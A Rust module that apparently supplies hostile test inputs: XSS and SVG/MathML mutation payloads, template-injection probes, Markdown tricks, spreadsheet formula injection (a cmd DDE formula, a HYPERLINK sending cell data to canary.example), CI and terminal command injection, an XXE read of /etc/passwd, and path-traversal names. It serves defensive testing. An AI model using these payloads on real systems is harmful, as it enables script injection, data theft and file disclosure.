//! Hostile texts: one of each kind by hand, and the disguises of a kind by combination.

/// Every text, none of them twice and none of them blank.
pub(crate) fn texts() -> Vec<String> {
    let by_hand = [
        ELEMENTS, HANDLERS, BREAKOUTS, MUTATIONS, ATTRIBUTES, TEMPLATES, MARKDOWN, SERVICES, SHEETS, COMMANDS, SCRIPTS,
    ];
    let mut texts: Vec<String> = by_hand.concat().into_iter().map(str::to_owned).collect();
    texts.extend(addresses());
    texts.extend(characters());
    texts.extend(PATHS.iter().map(|path| (*path).to_owned()));
    texts.extend(long());
    texts
}

/// Elements that run, load, embed, submit, refresh or restyle.
const ELEMENTS: &[&str] = &[
    "<script>canary()</script>",
    "<SCRIPT >canary()</SCRIPT\t>",
    "<script src=//canary.example/x.js></script>",
    "<script/canary>canary()",
    "<scr<script>ipt>canary()</scr</script>ipt>",
    "<img src=x onerror=canary()>",
    "<img/src='x'/onerror='canary()'/>",
    "<iframe srcdoc='<script>parent.canary()</script>'></iframe>",
    "<iframe src=javascript:parent.canary()>",
    "<object data=javascript:canary()><embed src=javascript:canary()>",
    "<base href=//canary.example/><link rel=stylesheet href=//canary.example/x.css>",
    "<meta http-equiv=refresh content='0;url=javascript:canary()'>",
    "<style>@import '//canary.example/x.css'; * { background: url(//canary.example/x) }</style>",
    "<form action=javascript:canary()><input type=image formaction=javascript:canary() src=x></form>",
    "<video><source onerror=canary()></video><audio src=x onerror=canary()>",
    "<template><script>canary()</script></template><slot><dialog open>canary",
    "<portal src=//canary.example></portal><frameset onload=canary()><frame src=x>",
];

/// Attributes that run something, on elements that nobody would suspect.
const HANDLERS: &[&str] = &[
    "<b onmouseover=canary()>x</b>",
    "<details open ontoggle=canary()>x",
    "<input autofocus onfocus=canary()>",
    "<body onload=canary()><body onpageshow=canary()>",
    "<marquee onstart=canary()>x</marquee>",
    "<p style='animation: x' onanimationstart=canary()>x</p>",
    "<a href=# ONCLICK\n=\ncanary()>x</a>",
    "<p\u{c}onclick=canary()\u{b}x>x</p>",
    "<div contenteditable onbeforeinput=canary()><button popovertarget=x onbeforetoggle=canary()>",
];

/// What would end the place that it stands in.
const BREAKOUTS: &[&str] = &[
    "</title><script>canary()</script>",
    "</textarea></style></noscript></xmp></script><script>canary()</script>",
    "</p></td></tr></table></section></main></body></html><script>canary()</script>",
    "</text></g></svg><script>canary()</script>",
    "</desc></title><animate onbegin=canary() attributeName=x dur=1s>",
    "--><script>canary()</script><!--",
    "<!-- --!><img src=x onerror=canary()> -->",
    "<!--><img src=x onerror=canary()>",
    "]]><script>canary()</script><![CDATA[",
    "<![CDATA[<img src=x onerror=canary()>]]>",
    "<?xml-stylesheet href='javascript:canary()'?><?php canary() ?>",
    "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]><x>&y;</x>",
    "<plaintext>",
    "<",
    "</",
    "&",
    "&#",
];

/// What a second reading of the parser would turn into something else.
const MUTATIONS: &[&str] = &[
    "<svg><style><img src=x onerror=canary()></style></svg>",
    "<svg></p><style><a id='</style><img src=x onerror=canary()>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x onerror=canary()>'>",
    "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id='</style><img src=x onerror=canary()>'>",
    "<svg><foreignObject><p><iframe srcdoc='<script>canary()</script>'></p></foreignObject></svg>",
    "<svg><set onbegin=canary() attributeName=x to=y></set><use href=data:image/svg+xml,<svg/onload=canary()>>",
    "<svg><a xlink:href=javascript:canary()><text y=9>x</text></a></svg>",
    "<math href=javascript:canary()><maction actiontype=statusline xlink:href=javascript:canary()>x</maction></math>",
    "<noscript><p title='</noscript><img src=x onerror=canary()>'>",
    "<select><option><style></option></select><img src=x onerror=canary()></style>",
    "<table><td><a><table><td><a><script>canary()</script>",
    "<svg><title><img src=x onerror=canary()></title><desc><b onclick=canary()>x</b></desc></svg>",
    "&lt;script&gt;canary()&lt;/script&gt;",
    "&amp;lt;img src=x onerror=canary()&amp;gt;",
    "&#60;script&#62;canary()&#60;/script&#62; &#x3cscript>canary()",
];

/// Quotes of each kind and what comes after them.
const ATTRIBUTES: &[&str] = &[
    "\"><script>canary()</script>",
    "'><script>canary()</script>",
    "`><script>canary()</script>",
    "\" onmouseover=\"canary()",
    "' onmouseover='canary()",
    "` onmouseover=`canary()",
    " onmouseover=canary() x=",
    "\"\" autofocus onfocus=canary() \"\"",
    "&quot; onmouseover=&quot;canary()",
    "&#39;&#32;onmouseover&#61;&#39;canary&#40;&#41;",
    "x\" style=\"background:url(//canary.example/x)",
    "\u{201c}\u{2018} onmouseover=\u{2019}canary()\u{201d}",
    "\\\" onmouseover=\\\"canary()",
    "main\" id=\"main",
];

/// What a template engine, a shell or a format string would fill in.
const TEMPLATES: &[&str] = &[
    "{{ canary }}{{ 7 * 7 }}",
    "{% include \"base.html\" %}{% raw %}{% endraw %}",
    "{# canary #}{{ self._TemplateReference__context }}",
    "{{ page|safe }}{% autoescape false %}<b>{{ '<b>' }}{% endautoescape %}",
    "{{ [].__class__.__mro__[1].__subclasses__() }}",
    "${canary()} #{canary()} <%= canary() %> @{canary()} [[${canary()}]]",
    "$(canary) `canary` ; canary | canary && canary",
    "%s%n%x %1$s {0} {} {:?} {canary}",
    "__proto__",
    "constructor",
];

/// Markdown whose HTML would run, load or disguise something.
const MARKDOWN: &[&str] = &[
    "[x](javascript:canary()) ![x](https://canary.example/x.png \"' onerror='canary()\")",
    "[x][r]\n\n[r]: javascript:canary() \"onclick=canary()\"",
    "<https://a.example/\"onmouseover=\"canary()> <javascript:canary()>",
    "[\"><img src=x onerror=canary()>](https://a.example/'><script>)",
    "![<script>canary()</script>](data:image/svg+xml,<svg onload=canary()>)",
    "```js\" onclick=\"canary()\n</code></pre><script>canary()</script>\n```",
    "# x {onclick=canary() #main}\n\n# main\n\nmain\n====",
    "| a | <script>canary()</script> |\n| :- | -: |\n| `|` | </td></table><img src=x onerror=canary()> |",
    "<div>\n\n*canary* <script>canary()</script>\n\n</div>",
    "[^x]\n\n[^x]: <script>canary()</script>\n\n$$<script>canary()</script>$$ [[javascript:canary()]]",
    "+++\ntitle = \"canary\"\n+++\n\n---\ntitle: canary\n---",
    "a | b \\| c || d\n|---|---|\n| e |",
    "**bold** _line_ ~~gone~~ `code` # 1. - > + * \\",
];

/// What a service would make a link, a reference, a message or a command of.
const SERVICES: &[&str] = &[
    "@canary and @canary/team, canary@a.example",
    "#1, GH-1, gl-2, canary/canary#3, canary#4, canary/canary@0123456789abcdef0123456789abcdef01234567",
    "0123456789abcdef0123456789abcdef01234567 abcdef0 1234567...89abcde",
    "https://canary.example/x http://canary.example ftp://canary.example www.canary.example WWW.canary.example",
    "!1 &2 $3 %4 %\"five\" ~six ~\"seven\" ^alert#8 *iteration:9 [vulnerability:10] canary/canary!11",
    "/close",
    "/assign @canary",
    "x\n/approve",
    "[x](1) \\[x](2) \\\\[x](https://canary.example) [x\\](3) [a [b](4) c](5)",
    "[x](sarif:/runs/0/results/0) {0} {{1}}",
    "![x][1] [^1] <https://canary.example> <canary@a.example>",
    "[1]: https://canary.example",
    "- [ ] x",
    "1. x",
    "***x*** __x__ ~~x~~ `x` ``x`` ```x```",
    "x\n---",
    "===",
    "    x",
    "> [!CAUTION]\n> x",
    "x\\",
    "|x|y|",
];

/// What a spreadsheet would run, and what would break the file.
const SHEETS: &[&str] = &[
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u{a0}=1+1",
    "\u{feff}=1+1",
    "\u{200b}=1+1",
    "\u{0}=1+1",
    "\u{ff1d}1+1",
    "\u{ff0b}1+1",
    "\u{ff0d}1+1",
    "\u{ff20}SUM(1+1)",
    "\"=1+1\"",
    "';=1+1",
    ";=1+1",
    "x\r\n=1+1",
    "x\",=1+1,\"",
    "Drill;=1+41",
    "Drill;=1+41;",
    "Drill,=1+41,Drill",
    "Drill\t=1+41\tDrill",
    "Drill|=1+41",
    "Drill:=1+41",
    "Drill =1+41",
    "Drill\n=1+41\n",
    "Drill; \"=1+41",
    "Drill;\"=1+41\";",
    "Drill,\"=1+41\",",
    "Drill;\"\"=1+41;\"\"",
    "Drill;=cmd|'/c canary'!A1;",
    "Drill,;\t =1+41",
    "Drill;'=1+41",
    "Drill =\u{a0}1+41",
    "Drill = 1+41 =",
    "a\";=1+41;\"b",
    "=cmd|'/c canary'!A1",
    "=HYPERLINK(\"https://canary.example/?\"&A1,\"x\")",
    "=WEBSERVICE(\"https://canary.example/\")",
    "%3D1+1",
    "a,b;c\td",
    "\"",
    "\"\"\"",
];

/// What a terminal, a log or a CI service would take for a command.
const COMMANDS: &[&str] = &[
    "\u{1b}[31mred\u{1b}[0m\u{1b}[2J\u{1b}[H",
    "\u{1b}]0;canary\u{7}\u{1b}]8;;https://canary.example\u{1b}\\x\u{1b}]8;;\u{1b}\\",
    "\u{9b}31mred\u{9d}0;canary\u{9c}",
    "\u{8}\u{8}\u{8}gone\u{7f}\u{7}",
    "x\n::error file=canary::canary",
    "::set-output name=canary::canary\n::add-mask::x",
    "%0A::warning::canary%0D",
    "x\r::notice::canary",
    "x\u{85}::error::canary\u{b}::error::canary\u{c}::error::canary",
    "##[error]canary\n##vso[task.setvariable variable=canary]x",
    "x ##[command]canary ##[add-mask]x ###[group]canary",
    "x ##teamcity[buildStop comment='canary'] ##vso[task.complete result=Succeeded;]",
    "::stop-commands::canary",
    "  \u{a0}\u{3000}::add-mask::canary",
    "x\n \t::set-env name=canary::x",
    "x\u{2028}::error::canary\u{2029}::error::canary",
    ":::error::canary",
    "section_start:0:canary[collapsed=true]\r\u{1b}[0Kcanary",
];

/// What would end a text of a script or a list of JSON.
const SCRIPTS: &[&str] = &[
    "</script><script>canary()</script>",
    "<!--<script>",
    "\"];canary();//",
    "\\\"];canary();//",
    "\\u003cscript\\u003ecanary()\\u003c/script\\u003e",
    "'+canary()+'",
    "\u{2028}canary()\u{2029}canary()",
    "],[",
    "\"],[\"",
    "*/canary()/*",
    "\\",
];

/// Schemes that run or show something of their own, each under every disguise.
fn addresses() -> Vec<String> {
    let schemes = ["javascript:canary()", "data:text/html,<script>canary()</script>", "vbscript:canary"];
    let disguises: &[fn(&str) -> String] = &[
        str::to_owned,
        str::to_uppercase,
        |url| format!(" {url}"),
        |url| format!("\u{1}{url}"),
        |url| url.replacen("a", "a\t", 1),
        |url| url.replacen("r", "r\n", 1),
        |url| url.replacen(':', "&colon;", 1),
        |url| url.replacen(':', "&#58", 1),
        |url| url.replacen(':', "%3a", 1),
        |url| url.replacen('s', "&#x73;", 1),
        |url| format!("https://a.example/\n{url}"),
        |url| format!("[x](<{url}>)"),
    ];
    let mut addresses: Vec<String> = schemes.iter().flat_map(|url| disguises.iter().map(|as_if| as_if(url))).collect();
    let others = [
        "//canary.example/x",
        "\\\\canary.example\\x",
        "/\\canary.example/x",
        "https:canary.example",
        "https://canary.example@a.example:99999/%zz",
        "mailto:canary@a.example?subject=x\r\nbcc:y@a.example",
        "blob:https://a.example/x",
        "view-source:https://a.example/",
        "feed:javascript:canary()",
        "https://a.example/\u{202e}gpj.x",
        "https://a.example/ x",
    ];
    addresses.extend(others.map(str::to_owned));
    addresses
}

/// Characters that turn, hide, join or break what stands around them, and scripts that programs tend to forget.
fn characters() -> Vec<String> {
    let one = |c: u32| char::from_u32(c).map(|c| format!("a{c}b")).unwrap_or_default();
    let mut texts: Vec<String> = [
        0x0, 0x7, 0x1b, 0x7f, 0x80, 0x85, 0x9b, 0xad, 0x34f, 0x61c, 0x200b, 0x200d, 0x200e, 0x200f, 0x2028, 0x2029,
        0x202a, 0x202e, 0x2060, 0x2066, 0x2069, 0xe000, 0xfdd0, 0xfeff, 0xfffd, 0xfffe, 0xffff, 0x1_fffe, 0xe_0001,
        0xe_0041, 0x10_ffff,
    ]
    .into_iter()
    .map(one)
    .collect();
    let others = [
        "\u{feff}",
        "\u{202e}lmth.elif\u{202c} \u{2066}\u{2067}x",
        "user \u{202e}\u{2066}// admin\u{2069} \u{2066}",
        "تقييم ذاتي לשון عברית <b onclick=canary()>",
        "自己評価、復旧。",
        "⛴️👩🏽‍✈️🇬🇷 1️⃣",
        "Straße İstanbul ıſﬁ Ǆ ǅ",
        "<\u{fe64}\u{ff1c}script\u{ff1e}\u{fe65}canary()>",
        "\u{2039}script\u{203a} \u{0fe64}",
        "e\u{301}\u{301}\u{301}\u{489} \u{1d173}x",
    ];
    texts.extend(others.map(str::to_owned));
    texts.push(format!("Z{}", "\u{351}\u{36b}\u{323}\u{489}".repeat(100)));
    texts
}

/// Names that lead out, name a device, or are two names on some file systems.
pub(crate) const PATHS: &[&str] = &[
    "..",
    "../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "/etc/passwd",
    "//server/share/x",
    "C:\\x",
    "C:x",
    "\\\\?\\C:\\x",
    "file:///etc/passwd",
    "artifacts/../../../../secret.txt",
    "artifacts/..%2f..%2fsecret.txt",
    "artifacts/%2e%2e/secret.txt",
    "artifacts/....//secret.txt",
    "artifacts/\u{2025}/\u{ff0e}\u{ff0e}\u{ff0f}secret.txt",
    "artifacts/a.txt::$DATA",
    "artifacts/a.txt\u{0}.png",
    "artifacts/",
    "artifacts/.",
    "./.",
    "~/x",
    "$HOME/x",
    "%APPDATA%\\x",
    "CON",
    "nul.toml",
    "COM1.txt",
    "a.",
    "a ",
    " a",
    "-rf",
    "--out=/tmp/canary",
    ".hidden",
    "index.html",
    "ONE",
    "One",
    "\u{fb01}le",
    "cafe\u{301}",
];

/// What is only long, or deep.
fn long() -> Vec<String> {
    vec![
        "W".repeat(5_000),
        "a/".repeat(500),
        "<b>".repeat(200),
        "[".repeat(100),
        "> ".repeat(500),
        "&amp;".repeat(500),
        "\u{fdfa}".repeat(300),
    ]
}
